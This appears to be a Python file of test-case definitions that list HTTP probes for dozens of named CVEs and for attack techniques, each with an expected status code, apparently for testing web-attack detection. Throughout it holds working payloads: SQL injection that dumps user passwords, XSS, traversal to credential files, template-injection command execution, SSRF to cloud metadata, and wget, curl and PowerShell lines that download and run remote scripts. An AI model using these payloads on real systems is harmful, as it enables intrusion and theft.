C('CVE-2019-15107', 'POST', '/password_change.cgi', 404, 'Webmin 1.890-1.920', nu('CVE-2019-15107') + ' / exploit-db 47230 (command in old= body field)', ref='https://admin.example:10000/session_login.cgi')
C('CVE-2020-10148', 'GET', '/web.config.i18n.ashx?l=j&v=j', 404, 'SolarWinds Orion API')
C('CVE-2022-29272', 'GET', '/nagiosxi/login.php?redirect=/www.evil.example', 404, 'Nagios XI (open redirect)')
C('CVE-2019-8982', 'GET', '/wavemaker/studioService.download?method=getContent&inUrl=file///etc/passwd', 404, 'WaveMaker Studio 6.6')
C('CVE-2019-5127', 'GET', '/objects/getImage.php?base64Url=' + b64('`id`') + '&format=png', 404, 'YouPHPTube Encoder', nu('CVE-2019-5127') + ' / Talos TALOS-2019-0917 (base64 command)')
C('CVE-2023-30943', 'GET', '/lib/editor/tiny/loader.php?rev=a/../../../../html/pix/f/<input><img%20src=x%20onerror=alert(document.domain)>.png', 404, 'Moodle 4.1/4.2')
C('CVE-2021-41277', 'GET', '/api/geojson?url=file:///etc/passwd', 404, 'Metabase (GeoJSON)')
C('CVE-2020-35476', 'GET', "/q?start=2000/10/21-00:00:00&end=2020/10/25-15:56:44&m=sum:sys.cpu.nice&o=&ylabel=&xrange=10:10&yrange=[33:system('wget%20http://198.18.2.30/o.sh%20-O-|sh')]&wxh=1516x644&style=linespoint&baba=lala&grid=t&json",
  404, 'OpenTSDB 2.4.0', nu('CVE-2020-35476') + ' / OpenTSDB issue #2051 (gnuplot yrange injection)')
C('CVE-2020-9757', 'GET', "/actions/seomatic/meta-container/meta-link-container/?uri={{craft.app.config.general.securityKey}}", 404, 'Craft CMS SEOmatic plugin', 'exploit-db 48783 (Twig in uri=); ' + nu('CVE-2020-9757') + ' uses an arithmetic probe on the same parameter')
C('CVE-2020-13167', 'GET', "/webadmin/tools/unixlogin.php?login=admin&password=g%27%2C%27%27%29%3Bimport%20os%3Bos.system%28%276964%27.decode%28%27hex%27%29%29%23&timeout=5", 404,
  'Netsweeper WebAdmin', nu('CVE-2020-13167') + ' / Metasploit netsweeper_webadmin_unixlogin (Python injected via password=, command hex-encoded)', ref='https://filter.example/webadmin/')
C('CVE-2019-18394', 'GET', '/getFavicon?host=' + CB[1], 404, 'Openfire (SSRF)', nu('CVE-2019-18394') + ' / Openfire OF-1885')
C('CVE-2019-18393', 'GET', '/plugins/search/..\\..\\..\\conf\\openfire.xml', 404, 'Openfire (path traversal)', nu('CVE-2019-18393') + ' / Openfire OF-1886')
C('CVE-2021-31589', 'GET', '/appliance/login.ns?login%5Bpassword%5D=test%22%3E%3Csvg/onload=alert(document.domain)%3E&login%5Buse_curr%5D=1&login%5Bsubmit%5D=Change%20Password', 404, 'BeyondTrust Remote Support')
C('CVE-2018-14912', 'GET', '/cgit/cgit.cgi/git/objects/?path=../../../../../../../etc/passwd', 404, 'cgit 1.2.1')
C('CVE-2018-1000129', 'GET', '/api/jolokia/read%3Csvg%20onload=alert(document.domain)%3E?mimeType=text/html', 404, 'Jolokia agent')
C('CVE-2022-40083', 'GET', '//evil.example%2f..', 404, 'Labstack Echo (open redirect)', nu('CVE-2022-40083') + ' / Echo issue #2259')
C('CVE-2020-35736', 'GET', '/downloads/..%2f..%2f..%2f..%2f..%2f..%2fetc%2fpasswd', 400, 'GateOne', ua='-')
C('CVE-2020-19360', 'GET', '/fhem/FileLog_logWrapper?dev=Logfile&file=%2fetc%2fpasswd&type=text', 404, 'FHEM')
C('CVE-2020-19625', 'GET', '/tests/support/stores/test_grid_filter.php?query=phpinfo();', 404, 'Gridx (Dojo)')
C('CVE-2021-21402', 'GET', '/Audio/1/hls/..%5C..%5C..%5C..%5C..%5C..%5CWindows%5Cwin.ini/stream.mp3/', 404, 'Jellyfin')
C('CVE-2021-3019', 'GET', '/../conf/config.properties', 400, 'ffay lanproxy', ua='-')
C('CVE-2022-23854', 'GET', '/AccessAnywhere/%252e%252e%255c%252e%252e%255c%252e%252e%255c%252e%252e%255c%252e%252e%255c%252e%252e%255c%252e%252e%255c%252e%252e%255cwindows%255cwin.ini', 404, 'AVEVA InTouch Access Anywhere')
C('CVE-2023-24278', 'GET', '/squid.svg?title=Not%20Found&text=This%20is%20not%20the%20page%20you%20are%20looking%20for!&background=%22%3E%3Cscript%3Ealert(document.domain)%3C/script%3E%3Cimg%20src=%22&small', 404, 'Squidex')
C('CVE-2024-45241', 'GET', '/GeneralDocs.aspx?rpt=../../../../Windows/win.ini', 404, 'CentralSquare CryWolf')
C('CVE-2024-41713', 'GET', '/npm-pwg/..;/axis2-AWC/services/listServices', 404, 'Mitel MiCollab', nu('CVE-2024-41713') + ' / watchTowr MiCollab write-up')
C('CVE-2024-57727', 'GET', '/toolbox-resource/../resource1/../../configuration/serverconfig.xml', 400, 'SimpleHelp remote support', 'Horizon3 SimpleHelp CVE-2024-57727 write-up; ' + nu('CVE-2024-57727') + ' uses a shorter path', ua='-')
C('CVE-2022-47986', 'POST', '/aspera/faspex/package_relay/relay_package', 404, 'IBM Aspera Faspex', nu('CVE-2022-47986') + ' / Assetnote Aspera Faspex write-up (YAML in the body)')
C('CVE-2023-49105', 'PROPFIND', '/remote.php/dav/files/admin?OC-Credential=admin&OC-Verb=PROPFIND&OC-Expires=60&OC-Date=2025-12-09T07:11:04.000Z&OC-Signature=' + 'b4e1c0f59a' * 6 + 'b4e1', 405,
  'ownCloud core (pre-signed URL bypass)', 'Ambionics "ownCloud: details about CVE-2023-49103 and CVE-2023-49105" (pre-signed URL with empty signing key)', checked=False)
C('CVE-2021-22054', 'GET', '/Catalog/BlobHandler.ashx?Url=YQB3AGUAdgAyADoAawB2ADAAOgB4AGwAawBiAEoAbwB5AGMAVwB0AFEAMwB6ADMAbABLADoARQBKAGYAYgBHAE4ATgBDADUARQBBAG0AZQBZAE4AUwBiAFoAVgBZAHYAZwBEAHYAdQBKAFgATQArAFUATQBkAGcAZAByAGMAMgByAEUAQwByAGIAcgBmAFQAVgB3AD0A', 404, 'VMware Workspace ONE UEM')
C('CVE-2021-21978', 'POST', '/logupload?logMetaData=%7B%22itrLogPath%22%3A%20%22..%2F..%2F..%2F..%2F..%2F..%2Fetc%2Fhttpd%2Fhtml%2Fwsgi_log_upload%22%2C%20%22logFileType%22%3A%20%22log_upload_wsgi.py%22%2C%20%22workloadID%22%3A%20%222%22%7D', 404, 'VMware View Planner')
C('CVE-2021-21975', 'POST', '/casa/nodes/thumbprints', 404, 'VMware vRealize Operations Manager', nu('CVE-2021-21975') + ' (target host list in the JSON body)')
C('CVE-2020-10189', 'POST', '/mdm/client/v1/mdmLogUploader?udid=si%5C..%5C..%5C..%5Cwebapps%5CDesktopCentral%5C_chart&filename=logger.zip', 404, 'Zoho ManageEngine Desktop Central',
  nu('CVE-2020-10189') + ' / Steven Seeley (srcincite) Desktop Central advisory', more=[('GET', '/cewolf/?img=%5Clogger.zip', 404)])
C('CVE-2021-44077', 'POST', '/RestAPI/ImportTechnicians?step=1', 404, 'Zoho ManageEngine ServiceDesk Plus', 'Metasploit manageengine_servicedesk_plus_cve_2021_44077 / Horizon3 write-up; ' + nu('CVE-2021-44077') + ' probes the same endpoint')
C('CVE-2022-28219', 'POST', '/api/agent/tabs/agentData', 404, 'Zoho ManageEngine ADAudit Plus', nu('CVE-2022-28219') + ' / Horizon3 ADAudit Plus write-up (XXE in the body)')
C('CVE-2023-38205', 'GET', '/hax/..CFIDE/wizards/common/utils.cfc?method=wizardHash&inPassword=foo&_cfclient=true&returnFormat=wddx', 404, 'Adobe ColdFusion')
C('CVE-2023-38203', 'POST', '/CFIDE/adminapi/base.cfc?method=', 404, 'Adobe ColdFusion', nu('CVE-2023-38203') + ' / ProjectDiscovery ColdFusion write-up (WDDX argumentCollection in the body)')

# --- mail servers and their web UIs
C('CVE-2022-37042', 'POST', '/service/extension/backup/mboximport?account-name=admin&ow=2&no-switch=1&append=1', 404, 'Zimbra Collaboration Suite',
  nu('CVE-2022-37042') + ' / Volexity Zimbra mboximport write-up', more=[('GET', '/zimbraAdmin/c8fk2q1v.jsp', 404)])
C('CVE-2023-37580', 'GET', '/m/momoveto?st=acg%22%2F%3E%3Cscript%3Ealert(document.domain)%3C%2Fscript%3E', 404, 'Zimbra Collaboration Suite', 'Google TAG Zimbra 0-day write-up; ' + nu('CVE-2023-37580'))
C('CVE-2022-27926', 'GET', '/public/error.jsp?errCode=%22%3E%3Cimg%20src=x%20onerror=alert(document.domain)%3E', 404, 'Zimbra Collaboration Suite')
C('CVE-2020-7796', 'GET', '/zimlet/com_zimbra_webex/httpPost.jsp?companyId=http://' + CB[0] + '%23', 404, 'Zimbra Collaboration Suite (WebEx zimlet SSRF)')
C('CVE-2019-9670', 'POST', '/Autodiscover/Autodiscover.xml', 404, 'Zimbra Collaboration Suite', nu('CVE-2019-9670') + ' / An Trinh Zimbra XXE write-up (XXE in the body)')
C('CVE-2020-8512', 'GET', '/webmail/?color=%22%3E%3Csvg/onload=alert(document.domain)%3E%22', 404, 'IceWarp WebMail')
C('CVE-2020-0688', 'GET', '/ecp/default.aspx?__VIEWSTATEGENERATOR=B97B4E27&__VIEWSTATE=' + q('/wEylAcAAQAAAP////8BAAAAAAAAAAwCAAAAXk1pY3Jvc29mdC5Qb3dlclNoZWxsLkVkaXRvciwgVmVyc2lvbj0zLjAuMC4wLCBDdWx0dXJlPW5ldXRyYWwsIFB1YmxpY0tleVRva2VuPTMxYmYzODU2YWQzNjRlMzUFAQAAAEJNaWNyb3NvZnQuVmlzdWFsU3R1ZGlvLlRleHQuRm9ybWF0dGluZy5UZXh0Rm9ybWF0dGluZ1J1blByb3BlcnRpZXMBAAAAD0ZvcmVncm91bmRCcnVzaAECAAAABgMAAAC2BTw/eG1sIHZlcnNpb249IjEuMCIgZW5jb2Rpbmc9InV0Zi04Ij8+DQo8T2JqZWN0RGF0YVByb3ZpZGVyIE1ldGhvZE5hbWU9IlN0YXJ0Ig=='),
  302, 'Microsoft Exchange ECP (fixed validation key)', 'ZDI "CVE-2020-0688: Remote code execution on Microsoft Exchange Server through fixed cryptographic keys" (ysoserial.net ViewState in the query)', checked=False)
C('CVE-2019-0604', 'POST', '/_layouts/15/Picker.aspx?PickerDialogType=Microsoft.SharePoint.WebControls.ItemPickerDialog,%20Microsoft.SharePoint,%20Version=15.0.0.0,%20Culture=neutral,%20PublicKeyToken=71e9bce111e9429c', 404,
  'Microsoft SharePoint', 'ZDI "CVE-2019-0604: Details of a Microsoft SharePoint RCE" (serialized XML in ctl00$PlaceHolderDialogBodySection$ctl05$hiddenSpanData)', checked=False)

# --- e-commerce, CMSs and their plugins
C('CVE-2022-31101', 'GET', '/module/blockwishlist/view?id_wishlist=1&order=p.name,%20(select%20case%20when%20(1=1)%20then%20(SELECT%20SLEEP(7))%20else%201%20end);%20--%20', 200, 'PrestaShop blockwishlist 2.1.0',
  'PrestaShop GHSA-2jx3-5j9v-prpp / Friends-Of-Presta advisory (order= in the wishlist view)', checked=False)
C('CVE-2020-26248', 'GET', '/index.php?fc=module&module=productcomments&controller=CommentGrade&id_products%5B%5D=(select*from(select(sleep(6)))a)', 200, 'PrestaShop productcomments')
C('CVE-2023-27638', 'GET', '/module/tshirtecommerce/designer?tshirtecommerce_design_cart_id=1%20OR%20SLEEP(8)', 404, 'PrestaShop tshirtecommerce module')
C('CVE-2021-32789', 'GET', '/?rest_route=/wc/store/products/collection-data&calculate_attribute_counts[0][query_type]=or&calculate_attribute_counts[0][taxonomy]=%252522%252529%252520union%252520all%252520select%2525201%25252Cconcat%252528id%25252C0x3a%25252cuser_login%25252C0x3a%25252Cuser_pass%252529from%252520wp_users%252520where%252520%252549%252544%252520%252549%25254E%252520%2525281%252529%25253B%252500',
  404, 'WooCommerce Blocks', nu('CVE-2021-32789') + ' / Josh (WooCommerce) 2021-07 advisory (triple-encoded)')
C('CVE-2020-11738', 'GET', '/wp-admin/admin-ajax.php?action=duplicator_download&file=..%2F..%2F..%2F..%2Fwp-config.php', 400, 'WordPress Duplicator')
C('CVE-2019-9978', 'GET', '/wp-admin/admin-post.php?swp_debug=load_options&swp_url=http://198.18.5.17/payload.txt', 302, 'WordPress Social Warfare')
C('CVE-2021-25003', 'GET', '/wp-content/plugins/wpcargo/includes/barcode.php?text=x1x1111x1xx1xx111xx11111xx1x111x1x1x1xxx11x1111xx1x11xxxx1xx1xxxxx1x1x1xx1x1x11xx1xxxx1x11xx111xxx1xx1xx1x1x1xxx11x1111xxx1xxx1xx1x111xxx1x1xx1xxx1x1x1xx1x1x11xxx11xx1x11xx111xx1xxx1xx11x1x11x11x1111x1x11111x1x1xxxx&sizefactor=.090909090909&size=1&filepath=../../../x8k2.php',
  404, 'WordPress WPCargo', more=[('POST', '/wp-content/x8k2.php?1=var_dump', 404)])
C('CVE-2021-24762', 'GET', '/wp-admin/admin-ajax.php?action=get_question&question_id=1%20AND%20(SELECT%207242%20FROM%20(SELECT(SLEEP(7)))HQYx)', 400, 'WordPress Perfect Survey')
C('CVE-2022-0169', 'GET', '/wp-admin/admin-ajax.php?action=bwg_frontend_data&shortcode_id=1&bwg_tag_id_bwg_thumbnails_0[]=)%22%20union%20select%201,2,3,4,5,6,7,concat(user_login,%200x2c,%20user_pass),9,10,11,12,13,14,15,16,17,18,19,20,21,22,23%20from%20wp_users%20--%20g', 400, 'WordPress Photo Gallery by 10Web')
C('CVE-2022-1119', 'GET', '/wp-content/plugins/simple-file-list/includes/ee-downloader.php?eeFile=%2e%2e%2f%2e%2e%2f%2e%2e%2f%2e%2e/wp-config.php', 404, 'WordPress Simple File List')
C('CVE-2019-9618', 'GET', '/wp-content/plugins/gracemedia-media-player/templates/files/ajax_controller.php?ajaxAction=getIds&cfg=../../../../../../../../../../etc/passwd', 404, 'WordPress GraceMedia Media Player')
C('CVE-2018-16283', 'GET', '/wp-content/plugins/wechat-broadcast/wechat/Image.php?url=../../../../../../../../../../etc/passwd', 404, 'WordPress Wechat Broadcast')
C('CVE-2021-24340', 'GET', '/wp-admin/admin.php?page=wps_pages_page&ID=0+AND+(SELECT+1+FROM+(SELECT(SLEEP(7)))test)&type=home', 302, 'WordPress WP Statistics')
C('CVE-2019-10692', 'GET', '/?rest_route=/wpgmza/v1/markers&filter=%7b%7d&fields=a.user_login,a.user_pass%20from%20wp_users%20a--%20-', 404, 'WordPress WP Google Maps')
C('CVE-2019-19985', 'GET', '/wp-admin/admin.php?page=download_report&report=users&status=all', 302, 'WordPress Email Subscribers & Newsletters')
C('CVE-2021-39316', 'GET', '/?action=dzsap_download&link=../../../../../../../../../../../../../etc/passwd', 200, 'WordPress DZS Zoomsounds')
C('CVE-2020-11530', 'GET', '/wp-content/plugins/chopslider/get_script/index.php?id=1+AND+(SELECT+1+FROM+(SELECT(SLEEP(6)))A)', 404, 'WordPress Chop Slider 3')
C('CVE-2021-24750', 'GET', "/wp-admin/admin-ajax.php?action=refDetails&requests=%7B%22refUrl%22:%22'%20union%20select%201,1,user_pass,4%20from%20wp_users--%20%22%7D", 400, 'WordPress Visitor Statistics (Real Time Traffic)')
C('CVE-2021-24146', 'GET', '/wp-admin/admin.php?page=MEC-ix&tab=MEC-export&mec-ix-action=export-events&format=csv', 302, 'WordPress Modern Events Calendar Lite')
C('CVE-2022-4060', 'GET', '/wp-admin/admin-ajax.php?action=upg_datatable&field=field:exec:id:NULL:NULL', 400, 'WordPress User Post Gallery')
C('CVE-2024-4443', 'POST', '/business-directory/?dosrch=1&q=&wpbdp_view=search&listingfields[+or+sleep(if(1%3d1,6,0))+))--+-][1]=', 404, 'WordPress Business Directory Plugin')
C('CVE-2021-34646', 'GET', '/?wcj_user_id=1&wcj_verify_email=' + b64('{"id":"1","code":0}'), 200, 'WordPress Booster for WooCommerce',
  'Wordfence "Critical Authentication Bypass in Booster for WooCommerce" (base64 JSON in wcj_verify_email)', checked=False)
C('CVE-2018-7602', 'POST', '/?q=node/1/delete&destination=node?q[%2523post_render][]=passthru%26q[%2523type]=markup%26q[%2523markup]=id', 200, 'Drupal 7 (authenticated)',
  'a2u/CVE-2018-7602 PoC (destination= carries the render array); ' + nu('CVE-2018-7602') + ' uses the same destination trick on user/cancel')
C('CVE-2017-8917', 'GET', '/index.php?option=com_fields&view=fields&layout=modal&list[fullordering]=updatexml(0x23,concat(1,user()),1)', 200, 'Joomla 3.7.0')
C('CVE-2019-9053', 'GET', '/moduleinterface.php?mact=News,m1_,default,0&m1_idlist=a,b,1,5))+and+(select+sleep(1)+from+cms_siteprefs+where+sitepref_value+like+0x25)+--+', 404,
  'CMS Made Simple 2.2.9', 'exploit-db 46635 (time-based SQLi in m1_idlist)', checked=False)
C('CVE-2020-17463', 'GET', '/fuel/pages/items/?search_term=&published=&layout=&limit=50&view_type=list&offset=0&order=asc&col=location+AND+(SELECT+1340+FROM+(SELECT(SLEEP(5)))ULQV)&fuel_inline=0', 404,
  'FUEL CMS 1.4.7', 'exploit-db 48741 (col= time-based SQLi)', checked=False)
C('CVE-2024-32640', 'POST', '/index.cfm/_api/json/v1/default/?method=processAsyncObject', 404, 'Mura / Masa CMS', nu('CVE-2024-32640') + " / ProjectDiscovery Masa CMS write-up (contenthistid=x\\' in the body)")

# ================================================================= technique probes
PATT = 'PayloadsAllTheThings'
# --- SQL injection
T('sqli', 'sqli-union-mixed-case', 'GET', '/products.php?id=1%20UnIoN%20SeLeCt%201,concat(user(),0x3a,version()),3--%20-', 404, PATT + ' SQL Injection/MySQL (case variation)')
T('sqli', 'sqli-inline-comments', 'GET', '/item?id=1/**/union/**/all/**/select/**/null,table_name,null/**/from/**/information_schema.tables%23', 404, PATT + ' SQL Injection (comment as whitespace)')
T('sqli', 'sqli-versioned-comments', 'GET', '/news.php?id=-1/*!50000UNION*//*!50000SELECT*/1,2,group_concat(username,0x3a,password)/**/from/**/users--+', 404, 'sqlmap tamper versionedmorekeywords / ' + PATT + ' WAF bypass')
T('sqli', 'sqli-double-encoded', 'GET', '/search?q=%2527%2520OR%25201%253D1--%2520', 200, 'OWASP WSTG-INPV-05 / sqlmap tamper chardoubleencode')
T('sqli', 'sqli-tab-sleep', 'GET', '/index.php?cat=1%27%09AND%09SLEEP(5)%23', 200, 'sqlmap tamper space2mysqlblank (tab as blank)')
T('sqli', 'sqli-pg-newline', 'GET', '/article?id=1%0aand%0a1=(select%0a1%0afrom%0apg_sleep(5))', 404, PATT + ' PostgreSQL injection (newline as blank)')
T('sqli', 'sqli-json-filter', 'GET', '/api/users?filter=' + q('{"where":{"id":"1\' OR \'1\'=\'1"}}'), 404, 'LoopBack filter= JSON injection shape / ' + PATT)
T('sqli', 'sqli-param-pollution', 'GET', '/list.php?id=1&id=2%20union%20select%20password%20from%20admin', 404, 'OWASP HTTP Parameter Pollution (Luca Carettoni, Stefano di Paola)')
T('sqli', 'sqli-iis-u-encoding', 'GET', '/page.aspx?id=1%u0027%u0020or%u00201=1--', 404, 'IIS %u encoding evasion (Imperva / OWASP evasion notes)')
T('sqli', 'sqli-fullwidth-quote', 'GET', '/catalog?id=1%EF%BC%87%20or%201=1--', 404, 'Unicode best-fit/normalisation bypass (fullwidth apostrophe U+FF07)')
T('sqli', 'sqli-user-agent', 'GET', '/', 200, 'sqlmap --level=3 (User-Agent injection)', ua="Mozilla/5.0' AND (SELECT 1 FROM (SELECT SLEEP(5))x) AND 'a'='a")
T('sqli', 'sqli-sqlmap-boolean', 'GET', '/index.php?id=1%20AND%205487%3D5487', 200, 'sqlmap boolean-based blind (tool User-Agent)', ua=TOOL['sqlmap'],
  more=[('GET', '/index.php?id=1%20AND%205487%3D5488', 200), ('GET', '/index.php?id=1%29%20AND%20%28SELECT%204105%20FROM%20%28SELECT%28SLEEP%285%29%29%29nRLb%29--%20bqMT', 200)])
T('sqli', 'nosql-ne-operator', 'GET', '/login?user[$ne]=x&pass[$ne]=x', 404, PATT + ' NoSQL Injection (MongoDB $ne)')
T('sqli', 'ldap-injection', 'GET', '/directory/search?uid=*)(uid=*))(|(uid=*', 404, PATT + ' LDAP Injection')

# --- cross-site scripting
T('xss', 'xss-mixed-case-script', 'GET', '/search?q=%3CsCrIpT%3Ealert(document.cookie)%3C/ScRiPt%3E', 200, 'OWASP XSS Filter Evasion Cheat Sheet (case variation)')
T('xss', 'xss-double-encoded', 'GET', '/?q=%253Cscript%253Ealert(1)%253C%252Fscript%253E', 200, 'OWASP XSS Filter Evasion Cheat Sheet (double encoding)')
T('xss', 'xss-svg-backtick', 'GET', '/comment?text=<svg/onload=confirm`1`>', 404, 'PortSwigger XSS cheat sheet (template literal call)')
T('xss', 'xss-html-entities', 'GET', '/page?name=%22%3E%3Cimg%20src=x%20onerror=%26%23x61%3B%26%23x6c%3Bert(1)%3E', 404, 'OWASP XSS Filter Evasion Cheat Sheet (hex entities)')
T('xss', 'xss-atob-base64', 'GET', '/profile?bio=%3Cdetails%20open%20ontoggle=eval(atob(%27' + q(b64('alert(document.cookie)')) + '%27))%3E', 404, 'PortSwigger XSS cheat sheet (ontoggle + base64 via atob)')
T('xss', 'xss-iis-u-encoding', 'GET', '/search?q=%u003Cscript%u003Ealert(1)%u003C/script%u003E', 200, 'IIS %u encoding evasion')
T('xss', 'xss-overlong-utf8', 'GET', '/?s=%C0%BCscript%C0%BEalert(1)%C0%BC/script%C0%BE', 200, 'overlong UTF-8 for < and > (OWASP evasion notes)')
T('xss', 'xss-null-byte-split', 'GET', '/search?q=%3Cscr%00ipt%3Ealert(1)%3C/scr%00ipt%3E', 200, 'OWASP XSS Filter Evasion Cheat Sheet (embedded NUL)')
T('xss', 'xss-referer', 'GET', '/contact', 200, 'reflected Referer XSS (Burp active scan shape)', ref='https://www.search.example/"><script>alert(1)</script>')
T('xss', 'xss-mxss-mathml', 'GET', '/search?q=%3Cmath%3E%3Cmtext%3E%3Ctable%3E%3Cmglyph%3E%3Cstyle%3E%3Cimg%20src=x%20onerror=alert(1)%3E', 200, 'Michal Bentkowski DOMPurify mXSS bypass')
T('xss', 'xss-javascript-tab-entity', 'GET', '/?q=%3Ca%20href%3D%22jav%26%23x09%3Bascript:alert(1)%22%3Eclick%3C/a%3E', 200, 'OWASP XSS Filter Evasion Cheat Sheet (embedded tab)')

# --- path traversal / LFI / RFI
T('lfi', 'lfi-double-encoded', 'GET', '/download.php?file=..%252f..%252f..%252f..%252fetc%252fpasswd', 404, PATT + ' Directory Traversal (double encoding)')
T('lfi', 'lfi-overlong-backslash', 'GET', '/scripts/..%c1%9c..%c1%9c..%c1%9cwindows/win.ini', 404, 'IIS Unicode traversal (MS00-078, overlong backslash)')
T('lfi', 'lfi-dot-dot-slash-filter', 'GET', '/index.php?page=....//....//....//etc/passwd', 200, PATT + ' File Inclusion (filter bypass ....//)')
T('lfi', 'lfi-null-byte', 'GET', '/view?file=../../../../etc/passwd%00.jpg', 404, PATT + ' File Inclusion (NUL byte)')
T('lfi', 'lfi-backslash-windows', 'GET', '/read?path=..%5c..%5c..%5c..%5cwindows%5cwin.ini', 404, PATT + ' Directory Traversal (Windows)')
T('lfi', 'lfi-php-filter', 'GET', '/include.php?file=php://filter/convert.base64-encode/resource=../config.php', 404, PATT + ' File Inclusion (php://filter)')
T('lfi', 'rfi-data-wrapper', 'GET', '/?page=data://text/plain;base64,' + b64('<?php system($_GET["c"]); ?>') + '&c=id', 200, PATT + ' File Inclusion (data:// wrapper, base64)')
T('lfi', 'lfi-path-encoded-shadow', 'GET', '/img/%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fshadow', 400, 'encoded traversal in the path (nginx refuses the climb above the root)', ua='-')
T('lfi', 'lfi-u2215-division-slash', 'GET', '/getfile?name=..%u2215..%u2215..%u2215etc%u2215passwd', 404, 'Unicode slash look-alike (U+2215) with %u encoding')
T('lfi', 'lfi-fullwidth-solidus', 'GET', '/download?file=..%ef%bc%8f..%ef%bc%8f..%ef%bc%8fetc%ef%bc%8fpasswd', 404, 'Unicode best-fit traversal (fullwidth solidus U+FF0F)')
T('lfi', 'lfi-semicolon-web-inf', 'GET', '/;/WEB-INF/web.xml', 404, 'Tomcat path-parameter normalisation (Orange Tsai "Breaking Parser Logic")')
T('lfi', 'rfi-remote-include', 'GET', '/index.php?page=http://198.18.5.7/shell.txt?', 200, PATT + ' File Inclusion (RFI, trailing ?)')

# --- command injection / code injection
T('rce', 'cmdi-semicolon', 'GET', '/ping?host=127.0.0.1%3Bcat%20/etc/passwd', 404, PATT + ' Command Injection')
T('rce', 'cmdi-ifs-encoded', 'GET', '/cgi-bin/test.cgi?cmd=%7Ccurl%24%7BIFS%7Dhttp%3A%2F%2F198.18.2.9%2Fx.sh%7Csh', 404, PATT + ' Command Injection (${IFS})')
T('rce', 'cmdi-newline', 'GET', '/api/exec?host=8.8.8.8%0Aid', 404, PATT + ' Command Injection (newline separator)')
T('rce', 'cmdi-backticks', 'GET', '/tools/traceroute?ip=%60wget%20-qO-%20http://' + CB[1] + '/a%7Csh%60', 404, PATT + ' Command Injection (backticks)')
T('rce', 'cmdi-base64-pipe', 'GET', '/?q=$(echo%20' + b64('curl http://198.18.0.5/x|sh') + '|base64%20-d|sh)', 200, PATT + ' Command Injection (base64 + pipe to sh)')
T('rce', 'cmdi-quote-splitting', 'GET', "/run?c=c'a't%20/e\"t\"c/pas%5Cswd", 404, PATT + ' Command Injection (quote splitting)')
T('rce', 'cmdi-powershell-enc', 'GET', '/diag?addr=127.0.0.1%26%26powershell%20-nop%20-w%20hidden%20-enc%20' +
  base64.b64encode("IEX (New-Object Net.WebClient).DownloadString('http://198.18.8.8/a.ps1')".encode('utf-16le')).decode(), 404, 'PowerShell -EncodedCommand download cradle (MITRE T1059.001)')
T('rce', 'shellshock-user-agent', 'GET', '/cgi-bin/status', 404, 'Shellshock (CVE-2014-6271) scanner shape', ua="() { :; }; /bin/bash -c 'wget http://198.18.6.1/bins.sh -O /tmp/b; sh /tmp/b'")
T('rce', 'dlink-dsl-login-cli', 'GET', "/login.cgi?cli=aa%20aa%27;wget%20http://198.18.4.12/d%20-O%20-%3E%20/tmp/d;sh%20/tmp/d%27$", 404, 'exploit-db 44760 (D-Link DSL-2750B login.cgi cli injection, Mirai)', ua=TOOL['hello'], ver='HTTP/1.0')
T('rce', 'python-pickle-b64', 'GET', '/session/load?state=' + q(base64.b64encode(b"cos\nsystem\n(S'id'\ntR.").decode()), 404, 'Python pickle deserialisation (os.system) base64 in a parameter')

# --- template injection
T('ssti', 'ssti-jinja-lipsum', 'GET', '/hello?name=' + q("{{lipsum.__globals__.os.popen('id').read()}}"), 200, PATT + ' SSTI Jinja2 (lipsum globals)')
T('ssti', 'ssti-twig-filter-callback', 'GET', '/?name={{_self.env.registerUndefinedFilterCallback(%22exec%22)}}{{_self.env.getFilter(%22id%22)}}', 200, PATT + ' SSTI Twig')
T('ssti', 'ssti-freemarker-execute', 'GET', '/preview?tpl=' + q('<#assign ex="freemarker.template.utility.Execute"?new()>${ex("id")}'), 404, PATT + ' SSTI FreeMarker')
T('ssti', 'ssti-velocity-runtime', 'GET', '/?q=' + q("#set($x='')#set($rt=$x.class.forName('java.lang.Runtime'))#set($ex=$rt.getRuntime().exec('id'))"), 200, PATT + ' SSTI Velocity')
T('ssti', 'ssti-thymeleaf-spel', 'GET', '/doc/__$%7BT(java.lang.Runtime).getRuntime().exec(%22id%22)%7D__::.x', 404, 'Veracode "Spring View Manipulation" (Thymeleaf fragment expression)')
T('ssti', 'el-injection-spring', 'GET', "/search?q=%24%7B%27%27.getClass().forName(%27java.lang.Runtime%27).getMethod(%27getRuntime%27).invoke(null).exec(%27id%27)%7D", 200, PATT + ' Java EL injection')

# --- SSRF
T('ssrf', 'ssrf-aws-imds-creds', 'GET', '/fetch?url=http://169.254.169.254/latest/meta-data/iam/security-credentials/', 404, PATT + ' SSRF cloud metadata (AWS)')
T('ssrf', 'ssrf-dns-rebind-nip', 'GET', '/proxy?u=http://169.254.169.254.nip.io/latest/user-data', 404, PATT + ' SSRF (wildcard DNS to metadata)')
T('ssrf', 'ssrf-octal-ip', 'GET', '/api/preview?link=http://0251.0376.0251.0376/latest/meta-data/', 404, PATT + ' SSRF (octal IPv4)')
T('ssrf', 'ssrf-alibaba-metadata', 'GET', '/webhook?target=http%3A%2F%2F100.100.100.200%2Flatest%2Fmeta-data%2F', 404, PATT + ' SSRF cloud metadata (Alibaba)')
T('ssrf', 'ssrf-gopher-redis', 'GET', '/render?url=gopher://127.0.0.1:6379/_%2A1%0D%0A%248%0D%0Aflushall%0D%0A%2A3%0D%0A%243%0D%0Aset%0D%0A%241%0D%0A1%0D%0A%2434%0D%0A%0A%0A%2A/1%20%2A%20%2A%20%2A%20%2A%20sh%20-i%0A%0A%0D%0A', 404, 'Gopherus redis payload')
T('ssrf', 'ssrf-file-scheme', 'GET', '/pdf?url=file:///etc/passwd', 404, PATT + ' SSRF (file://)')
T('ssrf', 'ssrf-azure-double-encoded', 'GET', '/fetch?url=http%253A%252F%252F169.254.169.254%252Fmetadata%252Finstance%253Fapi-version%253D2021-02-01', 404, PATT + ' SSRF cloud metadata (Azure, double-encoded)')

# --- XXE through the query string
T('xxe', 'xxe-file-in-query', 'GET', '/xml?data=' + q('<?xml version="1.0"?><!DOCTYPE foo [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><foo>&xxe;</foo>'), 404, PATT + ' XXE (classic)')
T('xxe', 'xxe-oob-parameter-entity', 'GET', '/api/parse?xml=' + q('<!DOCTYPE r [<!ENTITY % ext SYSTEM "http://' + CB[4] + '/x.dtd"> %ext;]><r/>'), 404, PATT + ' XXE (out-of-band parameter entity)')
